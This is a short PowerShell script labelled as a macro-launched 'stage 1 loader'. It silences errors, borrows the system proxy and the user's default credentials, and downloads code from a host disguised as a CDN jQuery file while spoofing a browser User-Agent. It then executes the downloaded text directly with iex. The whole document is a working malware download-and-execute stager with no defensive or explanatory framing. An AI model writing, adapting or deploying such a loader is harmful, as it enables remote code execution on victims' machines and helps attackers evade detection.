# stage 1 loader - keep it short, runs from a macro
$ErrorActionPreference = 'SilentlyContinue'
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12

$proxy = [System.Net.WebRequest]::GetSystemWebProxy()
$proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials

$u = 'https://cdn-updates.azureedge.example/lib/jquery.min.js'
$client = [System.Net.WebClient]::new()
$client.Proxy = $proxy
$client.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36')

iex ($client.DownloadString($u))
